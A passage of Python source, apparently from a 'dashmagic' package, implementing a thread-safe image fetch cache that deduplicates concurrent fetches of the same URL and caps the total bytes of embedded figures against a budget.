        """The image at ``url`` (or a :class:`~dashmagic.trace.Figure`), fetched on first use."""
        key = url.url if isinstance(url, Figure) else url
        while True:
            with self._lock:
                cached = self._results.get(key)
                if cached is not None:
                    return cached
                waiting = self._in_flight.get(key)
                if waiting is None:
                    done = self._in_flight[key] = threading.Event()
            if waiting is not None:
                waiting.wait()
                continue  # the owner stored a result, or was interrupted: look again
            return self._fetch_as_owner(key, done)

    def fetch_all(self, urls: Iterable[Union[str, Figure]]) -> dict[str, FetchedImage]:
        """``{url: FetchedImage}`` in first-seen order, each URL fetched at most once."""
        results: dict[str, FetchedImage] = {}
        for url in urls:
            key = url.url if isinstance(url, Figure) else url
            if key not in results:
                results[key] = self.fetch(key)
        return results

    def get(self, url: Union[str, Figure]) -> FetchedImage | None:
        """The cached result for ``url`` without fetching (None when not fetched yet)."""
        key = url.url if isinstance(url, Figure) else url
        with self._lock:
            return self._results.get(key)

    def __len__(self) -> int:
        with self._lock:
            return len(self._results)

    @property
    def embedded_bytes(self) -> int:
        """Bytes of the figures fetched so far that will be embedded (at most the budget)."""
        with self._lock:
            return self._embedded

    def _fetch_as_owner(self, key: str, done: threading.Event) -> FetchedImage:
        try:
            with self._lock:
                left = self.policy.max_total_bytes - self._embedded
            if left <= 0:
                result = self._over_budget(key)
            elif self._fetcher is not None:
                result = self._fetcher(key)
            else:
                result = fetch_image(key, self.policy, session=self.session, budget=left)
            with self._lock:
                result = self._charge(key, result)
                self._results[key] = result
            return result
        finally:
            with self._lock:
                self._in_flight.pop(key, None)
            done.set()

    def _charge(self, key: str, result: FetchedImage) -> FetchedImage:
        """Count ``result`` against the budget, or replace it with the note if it does not fit.
        Called with the lock held: concurrent fetches may each have seen the same ``left``."""
        size = len(result.data) if result.ok and result.data is not None else 0
        if size > self.policy.max_total_bytes - self._embedded:
            return self._over_budget(key)
        self._embedded += size
        return result

    def _over_budget(self, key: str) -> FetchedImage:
        return FetchedImage(url=key, display_url=display_url(key), error=budget_note(self.policy.max_total_bytes))
